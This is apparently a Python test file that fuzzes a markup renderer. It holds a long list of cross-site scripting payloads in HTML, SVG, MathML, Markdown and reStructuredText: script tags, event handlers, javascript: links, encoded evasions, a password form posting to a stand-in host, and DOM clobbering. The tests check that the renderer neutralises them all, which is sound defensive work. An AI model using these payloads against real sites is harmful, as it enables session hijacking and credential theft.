"""No text, however hostile, gets anything into a page that runs, styles, sends or takes a name of the page."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from decisions.domain.rendering import render
from tests.decisions.domain.safe_html import elements

# One attack a line; `~` stands for a line end.
ATTACKS = r'''
<script>alert(1)</script>
<SCRIPT SRC=http://e.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script/src=data:,alert(1)>
<<script>alert(1)//<</script>
<script~>alert(1)</script~>
</script><script>alert(1)</script>
<img src=x onerror=alert(1)>
<img src="x" ONERROR = "alert(1)">
<img/src='x'/onerror='alert(1)'>
<img src=javascript:alert(1)>
<img src=`javascript:alert(1)`>
<img """><script>alert(1)</script>">
<img src="http://a.example/x.png" srcset="javascript:alert(1)">
<img src=http://a.example/x.png style=position:fixed;inset:0>
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">
<image src=x onerror=alert(1)>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<math><mi xlink:href="javascript:alert(1)">x</mi></math>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="javascript:alert(1)"></object>
<embed src="javascript:alert(1)">
<applet code=x></applet>
<form action="javascript:alert(1)"><input type=submit></form>
<form action=http://e.example><input name=password type=password><button>ok</button></form>
<input type="image" src=x onerror=alert(1)>
<input autofocus onfocus=alert(1)>
<button formaction="javascript:alert(1)">x</button>
<select autofocus onfocus=alert(1)><option>x</select>
<textarea><img src=x onerror=alert(1)></textarea>
<title><img src=x onerror=alert(1)></title>
<xmp><img src=x onerror=alert(1)></xmp>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<noembed><img title="</noembed><script>alert(1)</script>"></noembed>
<template><script>alert(1)</script></template>
<plaintext><script>alert(1)</script>
<style>@import 'http://e.example/x.css';</style>
<style><!--</style><script>alert(1)//--></script>
<link rel=stylesheet href=http://e.example/x.css>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<base href="http://e.example/">
<body onload=alert(1)>
<video src=x onerror=alert(1)></video>
<audio src onloadstart=alert(1)>
<details open ontoggle=alert(1)><summary>x</summary></details>
<marquee onstart=alert(1)>x</marquee>
<dialog open>x</dialog>
<p style="background:url(javascript:alert(1))">x</p>
<p onclick="alert(1)" class="fixed inset-0">x</p>
<div class="fixed inset-0 hidden btn" style="z-index:9">x</div>
<span class="tok-k fixed">x</span>
<td background="javascript:alert(1)">x
<table><td background="javascript:alert(1)">x</td></table>
<table><tr><td><b><p></table><script>alert(1)</script>
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href="java&#09;script:alert(1)">x</a>
<a href="java&#x0A;script:alert(1)">x</a>
<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>
<a href=" &#14; javascript:alert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="//e.example/x">x</a>
<a href="/admin/logout/">x</a>
<a href="http:/\e.example" target=_blank ping="http://e.example">x</a>
<a href="blob:http://a.example/x">x</a>
<a id=content name=csrfmiddlewaretoken href="#content">x</a>
<a name="cookie">x</a><img name=getElementById src=http://a.example/x.png>
<blockquote cite="javascript:alert(1)">x</blockquote>
<b id="location">x</b><i id=main>y</i>
<!--><script>alert(1)</script>-->
<!--[if IE]><script>alert(1)</script><![endif]-->
<!-- <script>alert(1)</script>
<?xml-stylesheet href="javascript:alert(1)"?><?php echo 1 ?>
<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>
<![CDATA[<script>alert(1)</script>]]>
[x](javascript:alert(1))
[x](JAVASCRIPT:alert(1) "t")
[x](<javascript:alert(1)>)
[x](java&#115;cript:alert(1))
[x](javascript&colon;alert(1))
[x](data:text/html;base64,PHNjcmlwdD4=)
[x](vbscript:x) ![x](javascript:alert(1)) ![x](data:image/svg+xml,x)
[x](http://a.example/"onmouseover="alert(1))
![x" onerror="alert(1)](http://a.example/x.png)
![x](http://a.example/x.png "t\" onload=\"alert(1)")
<javascript:alert(1)> <data:text/html,x>
[x]: javascript:alert(1)~~[x]
[x]: http://a.example "t' onclick='alert(1)"~~[x]
```"><script>alert(1)</script>~x~```
```x" onclick="alert(1)~x~```
```html~<script>alert(1)</script>~```
```mermaid~graph TD; a["<img src=x onerror=alert(1)>"]~```
# <img src=x onerror=alert(1)> {#x onclick=alert(1)}
| <script>alert(1)</script> | b |~|--|--|~| <img src=x onerror=alert(1)> | `</td><script>` |
- [x] <input type=text onfocus=alert(1)>
x[^"><script>alert(1)</script>]~~[^"><script>alert(1)</script>]: y
---~title: <script>alert(1)</script>~---~x
</div></div></main><h1>the page is mine</h1>
<custom-element onclick=alert(1)>x</custom-element>
&lt;script&gt;alert(1)&lt;/script&gt;
`<script>alert(1)</script>`
.. raw:: html~~   <script>alert(1)</script>
.. image:: javascript:alert(1)~   :target: javascript:alert(1)~   :alt: x" onerror="alert(1)
.. class:: fixed inset-0 hidden btn~~x
`x <javascript:alert(1)>`_ and `y <data:text/html,x>`__
.. _x: javascript:alert(1)~~x_
.. role:: raw-html(raw)~   :format: html~~:raw-html:`<script>alert(1)</script>`
.. meta::~   :http-equiv=refresh: 0;url=javascript:alert(1)
.. container:: fixed~~   .. figure:: data:image/svg+xml,x~~      x
'''.strip().split("\n")

FORMATS = ("markdown", "rst", "mediawiki", "asciidoc", "plain", "unknown<b>")


def test_there_are_enough_attacks() -> None:
    assert len(set(ATTACKS)) > 110


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_is_harmless_wherever_it_stands(attack: str) -> None:
    attack = attack.replace("~", "\n")
    places = ("{}", "text {} text", "# {}", "> - {}", "<details>\n\n{}\n\n</details>", "*a {}* **b", "<b>{}")
    for text_format in FORMATS:
        for place in places:
            elements(render(place.replace("{}", attack), text_format).html)


PIECES = st.sampled_from(
    [
        *"<>\"'`=/&;#![](){}*_~|-+.:\\ \n\t\x00\x0c\u202e\ud800a1",
        *(
            "<b>",
            "</b>",
            "<p>",
            "</p>",
            "<table>",
            "<td>",
            "</table>",
            "<a href=",
            "<svg>",
            "<style>",
            "<math>",
            "--",
        ),
        *(
            "<!--",
            "-->",
            "<![CDATA[",
            "]]>",
            "<?",
            "javascript:",
            "onerror=",
            "style=",
            "id=x",
            "&#x6a;",
            "```",
            "~~~",
        ),
        *(
            "[^1]",
            "[^1]: ",
            "- [x] ",
            "| a | b |\n|--|--|\n",
            "$$",
            "<li>",
            "<details>",
            "<summary>",
            "<select>",
            "\n\n",
        ),
        *(
            ".. raw:: html\n\n   ",
            ".. |a| replace:: ",
            "|a|",
            "`x <",
            ">`_",
            "====\n",
            "::\n\n  ",
            ".. [1] ",
            "[1]_ ",
        ),
        *(
            "<img src=x onerror=a>",
            "<script>",
            "</script>",
            "<input>",
            "<template>",
            "<noscript>",
            "<xmp>",
            "</div>",
        ),
    ]
)


@settings(max_examples=300, deadline=None)
@given(st.lists(PIECES, max_size=40).map("".join), st.sampled_from(["markdown", "rst"]))
def test_no_mixture_of_markup_is_harmful(text: str, text_format: str) -> None:
    elements(render(text, text_format).html)


@settings(max_examples=100, deadline=None)
@given(st.text(max_size=200), st.sampled_from(FORMATS))
def test_any_text_in_any_format_renders(text: str, text_format: str) -> None:
    elements(render(text, text_format).html)
